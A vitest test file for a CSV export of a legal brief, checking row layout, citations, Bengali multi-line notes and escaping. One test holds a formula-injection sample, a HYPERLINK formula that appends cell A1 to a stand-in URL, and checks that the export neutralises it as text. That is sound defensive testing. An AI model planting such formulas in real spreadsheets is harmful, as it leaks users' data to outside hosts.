import { expect, test } from 'vitest';
import { briefCsv } from '../../../src/exports/brief/csv.ts';
import { readCsv } from '../read-csv.ts';
import { brief } from './brief.ts';

const [headings = [], ...rows] = readCsv(briefCsv(brief).slice(1));
const cell = (row: number, heading: string): string => rows[row]![headings.indexOf(heading)]!;

test('a row an item, in the reader’s order, with citation, status and note', () => {
  expect(rows).toHaveLength(3);
  expect(rows.map((row) => row.length)).toEqual([13, 13, 13]);
  expect([cell(0, 'cited'), cell(0, 'status'), cell(0, 'citation')]).toEqual([
    'EHA 2020, s 4(2)',
    'In force since 1 March 2020',
    'Example Homes Act 2020 (Bangladesh), s 4(2).',
  ]);
  expect(cell(1, 'note')).toBe('প্রথম লাইন\nদ্বিতীয় লাইন');
  expect(cell(2, 'answer')).toBe('আংশিক');
});
test('a note that a spreadsheet would run is text', () => {
  expect(cell(0, 'note')).toBe('\'=HYPERLINK("https://example.org/?"&A1,"open")');
});
